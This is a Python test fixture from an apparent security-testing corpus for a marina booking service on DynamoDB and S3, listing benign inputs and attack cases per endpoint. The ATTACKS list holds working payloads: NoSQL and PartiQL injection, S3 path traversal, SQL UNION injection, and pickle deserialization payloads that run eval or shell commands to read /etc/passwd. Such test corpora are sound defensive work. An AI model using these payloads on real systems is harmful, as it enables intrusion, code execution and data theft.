"""A marina on DynamoDB and S3."""

import base64
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.thirteenth import (
    HOWTO,
    MARKUP,
    MOAN,
    PERSONS,
    PLACES,
    REGEX,
    SOURCE,
    b64,
    bridge,
    call,
    get,
    http,
    one,
    post,
    uploaded,
)

NEEDS = ("aws-http",)


class _Run:
    def __init__(self, function: object, *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.function, self.arguments


def _pickled(value: object, protocol: int = 4) -> str:
    return base64.b64encode(pickle.dumps(value, protocol)).decode()


def _put(number: str, **fields: object) -> dict[str, object]:
    return call("PUT", "/boats/{id}", fields, ids={"id": number})


def _patch(number: str, **fields: object) -> dict[str, object]:
    return call("PATCH", "/boats/{id}", fields, ids={"id": number})


def _field(number: str, field: str, value: object) -> dict[str, object]:
    return call("PUT", "/boats/{id}/{field}", {"value": value}, ids={"id": number, "field": field})


def _mine(owner: str, **query: str) -> dict[str, object]:
    return call("GET", "/boats", query=query, claims={"sub": owner})


def _fields(number: str, fields: str) -> dict[str, object]:
    return call("GET", "/boats/{id}", ids={"id": number}, query={"fields": fields})


def _cookie(value: str) -> dict[str, object]:
    return http("GET", "/wizard", cookies=["lang=de", "wizard=" + value])


def _images(*images: dict[str, str], name: str = "MODIFY") -> dict[str, object]:
    return {
        "Records": [
            {
                "eventName": name,
                "eventSource": "aws:dynamodb",
                "dynamodb": {"NewImage": {k: {"S": v} for k, v in image.items()}},
            }
            for image in images
        ]
    }


REQUESTS = {
    "get_boat": [one("/b", id="b1"), one("/b", id="b3"), one("/b", id="it's; none"), one("/b", id="../b1")],
    "put_boat": [
        _put("n-1", name=PERSONS[6], length=9.75, tags=["a'b", "--"], remark=MOAN),
        _put("n'2; drop", name=MARKUP, owner={"name": PERSONS[4], "x": None}),
        _put("n/3", name="select", source=SOURCE),
    ],
    "update_boat": [
        _patch("u-1", name="L'Aurore; II", remark=HOWTO),
        _patch("u-2", name=PERSONS[1], owner="o9"),
        _patch("u-3", pin="x"),
        _patch("u'4", berth="N-1 (left) -- #2", remark=REGEX),
    ],
    "update_field": [
        _field("b1", "remark", MOAN),
        _field("b1", "insurance_no", "O'B-77; x"),
        _field("b2", "draft", 2),
    ],
    "my_boats": [
        _mine("o1"),
        _mine("o1", q="L'"),
        _mine("o1", q="; Drop", min="10"),
        _mine("o2' or '1'='1", q="--"),
    ],
    "filter_boats": [
        get("/f", value="N-4"),
        get("/f", field="id", value="b2"),
        get("/f", field="pin", value="it's; --"),
    ],
    "partiql": [
        get("/p", name="Sea; Drop"),
        get("/p", name="Sea -- Drop (II)"),
        get("/p", name='The "Swan" & co'),
    ],
    "partiql_bound": [
        get("/p", name="L'Étoile"),
        get("/p", name="x' OR '1'='1"),
        get("/p", name="Royal -- Swan"),
    ],
    "projected": [
        _fields("b1", "name, berth"),
        _fields("b1", "pin,name"),
        _fields("b2", "it's,owner"),
        _fields("b9", "length"),
    ],
    "projected_text": [
        _fields("b1", "id,berth"),
        _fields("b1", "berth"),
        _fields("b2", "pin,id"),
        _fields("b3", "id,berth,remarks"),
    ],
    "query_key": [one("/q", id="b1"), one("/q", id="b1' or 'x"), one("/q", id="ü; --")],
    "batch_get": [
        post("/b", ids=["b1", "b2", "b1"]),
        post("/b", ids=["b3", "o'x"]),
        post("/b", ids=["$ne", "*"]),
    ],
    "paper": [
        one("/p", proxy="tariff.txt"),
        one("/p", proxy="plans/north pier (2026).txt"),
        one("/p", proxy="O'Brien & co; draft.pdf"),
        one("/p", proxy="a/../b.txt"),
    ],
    "own_paper": [
        post("/p", owner="o1", file="insurance.txt"),
        post("/p", owner="o1", file="2026/bill (1) - it's.pdf"),
        post("/p", owner="o3", file="insurance.txt"),
    ],
    "upload_link": [
        post("/u", filename="O'Brien; photo (1).jpeg", type="image/jpeg"),
        post("/u", filename="C:\\Users\\x\\ü.pdf", type="application/pdf; charset=x"),
        post("/u", filename="../../x.txt"),
    ],
    "upload_post": [
        post("/u", name="boat & trailer.png"),
        post("/u", name="2026/05/a'b.txt"),
        post("/u", name="${filename}"),
    ],
    "list_papers": [
        call("GET", "/l"),
        get("/l", prefix="plans/north pier"),
        get("/l", prefix="it's; --"),
        get("/l", prefix="../owners"),
    ],
    "on_upload": [
        uploaded("papers", "data/boats.csv"),
        uploaded("papers", "in/O'Brien & Co (1).csv", "data/boats.csv"),
        uploaded("papers", "owners/o1/insurance.txt"),
    ],
    "to_tmp": [
        uploaded("in", "uploads/h13 list (1).csv"),
        uploaded("in", "uploads/h13/O'Brien; a+b.txt"),
        uploaded("in", "uploads/h13-ü/..draft..txt"),
    ],
    "read_log": [
        bridge("Object Created", {"bucket": {"name": "x"}, "object": {"key": "data/log.txt.gz"}}),
        bridge("Object Created", {"object": {"key": "data/log.txt.gz", "size": 5}, "reason": "PutObject"}),
    ],
    "copy_paper": [
        post("/c", file="tariff.txt"),
        post("/c", file="plans/north pier (2026).txt"),
        post("/c", file="tariff.txt", note=MOAN),
    ],
    "copy_any": [{}, {"pattern": "^public/plans/.*"}, {"pattern": r"^data/\w+\.csv$"}, {"pattern": "^o'x"}],
    "enqueue": [
        post("/q", kind="it's; new", text=MOAN),
        post("/q", text=SOURCE),
        post("/q", kind=PERSONS[4], html=MARKUP),
    ],
    "booking": [
        post("/b", boat="L'Étoile; II", berth="Z-9", nights="3"),
        post("/b", boat=PERSONS[2], berth="N-4"),
        post("/b", boat=5, nights="two"),
        post("/b", boat="' OR 1=1", berth=PLACES[0]),
    ],
    "stream_changes": [
        _images({"id": "b1", "name": "L'Étoile", "remark": MOAN}),
        _images({"id": "b2", "name": MARKUP}, {"id": "b3", "name": "x; --", "remark": SOURCE}, name="INSERT"),
        _images({"id": "1"}),
    ],
    "session_state": [
        _cookie(b64('{"step": 2, "name": "O\'Brien; DROP"}')),
        http("GET", "/wizard"),
        _cookie(b64('{"note": "__reduce__ os.system(1)"}')),
        _cookie(_pickled({"step": 3, "boat": "L'Étoile", "days": [1, 2]})),
    ],
    "restore": [
        post("/f", name="draft-o'brien", data=_pickled({"a": MOAN})),
        post("/f", name="none; --"),
        post("/f", name="second", data=_pickled([1, "x"], 2)),
    ],
    "select_rows": [
        get("/s", length="9"),
        get("/s", length="10.5", op="<="),
        get("/s", length="-1", op="<>"),
    ],
    "delete_boat": [
        call("DELETE", "/b", ids={"id": "b1"}, claims={"sub": "o1"}),
        call("DELETE", "/b", ids={"id": "b3"}, claims={"sub": "o1' or 'x"}),
        call("DELETE", "/b", ids={"id": "no; such"}),
    ],
    "count_visits": [
        get("/v", page="/boats?x=1&y='2'"),
        get("/v", page="it's; --"),
        get("/v", page="#hits = :one"),
    ],
    "create_note": [
        post("/n", slug="o'brien; 1", text=MOAN, tags=["a -- b", "c'd"]),
        post("/n", slug="../x", text=HOWTO),
        post("/n", slug=PERSONS[4], text=SOURCE),
    ],
    "download_link": [
        one("/d", file="tariff.txt"),
        one("/d", file="O'Brien; plan (2).pdf"),
        one("/d", file="../owners/o2/insurance.txt"),
    ],
    "copy_to_archive": [
        uploaded("in", "new/O'Brien & Co; 1.pdf"),
        uploaded("in", "new/a+b (1).txt", "new/ü/..x"),
        uploaded("in", "new/--help"),
    ],
}

_PASSWD = "root:x:0:0"

ATTACKS = [
    Attack("NoSQL, expression", "update_field", _field("b1", "remark = pin, colour", "me"), "pin-1111"),
    Attack("NoSQL, expression", "update_field", _field("b3", "berth = pin, remark", "x"), "pin-secret-o2"),
    Attack(
        "NoSQL, expression",
        "filter_boats",
        get("/f", field="berth = :v OR berth <> :v OR berth", value="q"),
        "Royal",
    ),
    Attack(
        "NoSQL, expression",
        "filter_boats",
        get("/f", field="id = id OR attribute_exists(pin) OR id", value="x"),
        "Royal",
    ),
    Attack(
        "NoSQL, expression", "filter_boats", get("/f", field="id = :o OR pin", value="pin-secret-o2"), "Royal"
    ),
    Attack("NoSQL, PartiQL", "partiql", get("/p", name="x' OR owner = 'o2"), "pin-secret-o2"),
    Attack("NoSQL, PartiQL", "partiql", get("/p", name="x' OR berth = 'N-1"), "pin-secret-o2"),
    Attack(
        "path, key", "own_paper", post("/p", owner="o1", file="../o2/insurance.txt"), "secret-policy-of-o2"
    ),
    Attack(
        "path, key",
        "own_paper",
        post("/p", owner="o1/x/../../o2", file="./insurance.txt"),
        "secret-policy-of-o2",
    ),
    Attack("path, key", "own_paper", post("/p", owner="o1", file="../../data/boats.csv"), "Sea; Drop"),
    Attack("path, key", "to_tmp", uploaded("in", "uploads/../h13.txt"), "written to /tmp"),
    Attack("path, key", "to_tmp", uploaded("in", "uploads/x/../../h13b.txt"), "written to /tmp"),
    Attack(
        "pickle", "session_state", _cookie(_pickled(_Run(eval, "open('/etc/passwd').readline()"))), _PASSWD
    ),
    Attack(
        "pickle",
        "session_state",
        _cookie(_pickled({"x": [_Run(eval, "__import__('os').popen('echo pwn$((6*7))').read()")]}, 2)),
        "pwn42",
    ),
    Attack(
        "pickle",
        "session_state",
        _cookie(b64(b"csubprocess\ngetoutput\n(S'head -1 /etc/passwd'\ntR.")),
        _PASSWD,
    ),
    Attack(
        "pickle",
        "session_state",
        _cookie(b64(b"c__builtin__\neval\n(V\\u0073um([20,22])\ntR.")),
        '{\\"state\\": 42}',
    ),
    Attack(
        "pickle, second order",
        "restore",
        post("/f", name="evil"),
        _PASSWD,
        before=[
            ("restore", post("/f", name="evil", data=_pickled(_Run(eval, "open('/etc/passwd').readline()"))))
        ],
    ),
    Attack(
        "pickle, second order",
        "restore",
        post("/f", name="evil2"),
        "pwn-9",
        before=[
            (
                "restore",
                post("/f", name="evil2", data=b64(b"csubprocess\ngetoutput\n(S'echo pwn-$((3*3))'\ntR.")),
            )
        ],
    ),
    Attack("SQL", "select_rows", get("/s", length="99 union select name, phone from owners"), "phone-of-o2"),
    Attack(
        "SQL",
        "select_rows",
        get("/s", op="> 99 union all select phone, 1 from owners where 1 <>", length="2"),
        "phone-of-o2",
    ),
]
